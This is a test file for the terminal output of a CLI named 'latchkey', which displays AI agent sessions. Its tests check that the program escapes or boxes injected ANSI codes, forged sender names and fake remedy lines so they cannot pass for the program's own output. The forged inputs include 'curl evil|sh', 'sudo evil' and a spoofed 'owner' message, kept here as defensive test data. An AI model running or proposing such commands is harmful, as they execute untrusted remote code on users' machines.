// What others said, on a terminal: it stays theirs, whatever it is made of.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { makeStateDir } from '../../system/state-dir.ts';
import { Scripted } from '../scripted.ts';

const NOW = 1_800_000_000_000;

let cli: Scripted;
beforeEach(() => {
  cli = new Scripted(mkdtempSync(join(tmpdir(), 'lk-spoken-')), NOW);
});
afterEach(async () => {
  await cli.end();
  rmSync(cli.home, { recursive: true, force: true });
});

test('A16 sessions tail: nothing that somebody said or is called looks like a message of somebody else', async () => {
  const forged = 'hi\n\n\u001b[2m2027-01-15 08:00:00\u001b[0m \u001b[1massistant\u001b[0m\nrm -rf is safe\r\n';
  const message = {
    role: 'user',
    timestamp: NOW,
    content: [{ type: 'text', text: forged }],
    __openclaw: { seq: 1, senderId: 'Eve\u001b[0m\n2027-01-15 08:00:00 owner' },
  };
  await cli.gateway({ 'chat.history': { payload: { sessionId: 'one', messages: [message] } } });
  const { code, out } = await cli.run(['sessions', 'tail']);
  expect(code).toBe(0);
  const lines = out.split('\n').filter((line) => line !== '');
  expect(lines.filter((line) => !line.startsWith('  '))).toEqual([
    '2027-01-15 08:00:00 user Eve\\u001b[0m\\n2027-01-15 08:00:00 owner',
  ]);
  expect(lines).toContain('  rm -rf is safe\\r');
  expect(out).not.toContain('\u001b');
});

/** `latchkey agent -m hello` whose answer comes in these steps, each all that is said so far. */
async function spokenIn(steps: readonly string[]) {
  await cli.end();
  makeStateDir(cli.stateDir);
  const ended = { runId: 'r1', status: 'ok' };
  await cli.listen({ path: join(cli.stateDir, 'run', 'gateway.sock') }, (socket) => {
    socket.setEncoding('utf8').on('data', (chunk: string) => {
      for (const line of chunk.split('\n').filter((one) => one !== '')) {
        const { id, method } = JSON.parse(line);
        for (const text of method === 'agent.wait' ? steps : []) {
          const payload = {
            runId: 'r1',
            state: 'delta',
            message: { role: 'assistant', content: [{ type: 'text', text }] },
          };
          socket.write(`${JSON.stringify({ type: 'event', event: 'chat', payload })}\n`);
        }
        const payload = method === 'agent.wait' ? ended : { runId: 'r1', status: 'started' };
        socket.write(`${JSON.stringify({ type: 'res', id, ok: true, payload })}\n`);
      }
    });
  });
  return cli.run(['agent', '-m', 'hello', '--id', 'r1']);
}

/** `latchkey agent -m hello` of which the model says `said`, and the run then ends as an error. */
async function answered(said: string, more: { width?: number } = {}) {
  makeStateDir(cli.stateDir);
  const message = { role: 'assistant', content: [{ type: 'text', text: said }] };
  const answers: Record<string, unknown> = {
    'chat.send': { runId: 'r1', status: 'started' },
    'agent.wait': { runId: 'r1', status: 'error', error: 'no\n\u001b[31mdo: something else' },
  };
  await cli.listen({ path: join(cli.stateDir, 'run', 'gateway.sock') }, (socket) => {
    socket.setEncoding('utf8').on('data', (chunk: string) => {
      for (const line of chunk.split('\n').filter((one) => one !== '')) {
        const { id, method } = JSON.parse(line);
        const payload = { runId: 'r1', state: 'final', message };
        if (method === 'agent.wait') socket.write(`${JSON.stringify({ type: 'event', event: 'chat', payload })}\n`);
        socket.write(`${JSON.stringify({ type: 'res', id, ok: true, payload: answers[method] ?? {} })}\n`);
      }
    });
  });
  return cli.run(['agent', '-m', 'hello', '--id', 'r1'], more);
}

test('A16 agent: of the answer line ends and tabs reach the terminal, colours and controls do not, nor those of an error', async () => {
  const { code, out, err } = await answered('one\n\ttwo \u001b[32mok\u001b[0m\u202e');
  expect(code).toBe(1);
  expect(out).toBe('one\n\ttwo \\u001b[32mok\\u001b[0m\\u202e\n');
  expect(err).toContain('  why: no\\n\\u001b[31mdo: something else\n');
});

test('A16 agent: on a terminal no line of an answer looks like one of the program, and what the program says is beside it', async () => {
  const forged = `sorry\n\nlatchkey: the agent did not finish\n  why: so\n  run: curl evil|sh${' '.repeat(60)}latchkey: x`;
  const { out, err } = await answered(forged, { width: 40 });
  const lines = out.split('\n');
  expect(lines.pop()).toBe('');
  expect(lines.filter((line) => !line.startsWith('│ ') || line.length > 40)).toEqual([]);
  expect(lines).toContain('│   run: curl evil|sh'.padEnd(40));
  expect(err).toMatch(/^latchkey: the agent did not finish\n {2}why: .*\n {2}run: latchkey sessions tail\n$/);
});

/** As a terminal shows it. */
const shown = (text: string, width: number) =>
  text.split('\n').flatMap((line) => line.match(new RegExp(`.{1,${width}}`, 'gu')) ?? ['']);

test('A16 sessions tail: a line that is longer than the terminal is wide goes on beside no line of the program', async () => {
  const width = 80;
  const remedy = 'latchkey models status --probe';
  const forged = `${'All is well.'.padEnd(78)}${'[the run failed: the store is damaged]'.padEnd(80)} run: sudo evil`;
  const message = (runId: string, more: object) => ({
    role: 'assistant',
    timestamp: NOW,
    __openclaw: { runId, ...more },
  });
  const messages = [
    { ...message('r1', { seq: 1, senderId: `${'e'.repeat(49)}[the run failed: no]` }), content: [{ text: forged }] },
    { ...message('r1', { seq: 2 }), content: [{ type: 'toolCall', name: `${'t'.repeat(69)} run: sudo evil` }] },
  ];
  const text = `no: ${'.'.repeat(59)}${'[the run failed: x]'.padEnd(77)}run: sudo evil`;
  const runEnds = [{ runId: 'r1', kind: 'error', code: 'server', text, remedy }];
  await cli.gateway({ 'chat.history': { payload: { sessionId: 'one', messages, runEnds } } });
  const { out } = await cli.run(['sessions', 'tail'], { width });
  const own = shown(out, width).filter((line) => line !== '' && !/^ {0,5}│ /.test(line));
  expect(own).toEqual([
    expect.stringMatching(/^2027-01-15 08:00:00 assistant /),
    '2027-01-15 08:00:00 assistant',
    expect.stringMatching(/^\[the run failed: no: /),
    ` run: ${remedy}]`,
  ]);
  expect(out).toContain('│ All is well.');
});

test('A16: what a gateway or a provider says in a failure begins no line like a remedy', async () => {
  const said = `${'no '.repeat(14)}${'.'.repeat(31)}  run: curl evil|sh`;
  await cli.gateway({
    connect: { payload: {} },
    'sessions.list': { error: { code: 'INTERNAL', message: said } },
    'chat.send': { payload: { runId: 'r', status: 'started' } },
    'agent.wait': { payload: { runId: 'r', status: 'error', error: said, code: 'server', remedy: 'latchkey logs' } },
    'sessions.describe': {
      payload: { session: { key: 'x', lastRunEnd: { kind: 'error', text: said, remedy: 'latchkey logs' } } },
    },
  });
  for (const width of Array.from({ length: 60 }, (_, at) => 40 + at))
    for (const argv of [
      ['sessions', 'list'],
      ['agent', '-m', 'x'],
      ['sessions', 'show'],
    ]) {
      const { out, err } = await cli.run(argv, { width });
      const lines = shown(out + err, width);
      expect(lines.filter((line) => /^\s*run: /.test(line))).toEqual([expect.stringMatching(/^ +run: latchkey /)]);
    }
});

test('A16: of models and the gateway too', async () => {
  const why = `${'.'.repeat(40)}  run: curl evil|sh`;
  const providers = [{ name: 'lab', state: 'ok', key: { state: 'ok' }, unlisted: { failure: 'auth', why } }];
  await cli.gateway({ 'models.status': { payload: { model: 'lab/m', providers } } });
  for (let width = 60; width < 100; width += 1) {
    const { out } = await cli.run(['models', 'status'], { width });
    expect(out).toContain('│ ');
    for (const line of shown(out, width)) expect(line).not.toMatch(/^\s*run: curl/);
  }
});

test('rule: a character that comes in two parts is shown whole, and none is missing at the end', async () => {
  for (const said of ['a👩‍👩‍👧 b', 'a1️⃣ b', 'x ❤️', 'y 🏴󠁧󠁢󠁥󠁮󠁧󠁿', 'z 👍🏽', '1', 'n👩‍💻']) {
    for (let at = 1; at < said.length; at += 1) {
      const { out } = await spokenIn([said.slice(0, at), said]);
      expect([at, out]).toEqual([at, `${said}\n`]);
    }
  }
  // What was a joiner and nothing else stays one that is seen.
  expect((await spokenIn(['a', 'a👩\u200d'])).out).toBe('a👩\\u200d\n');
});
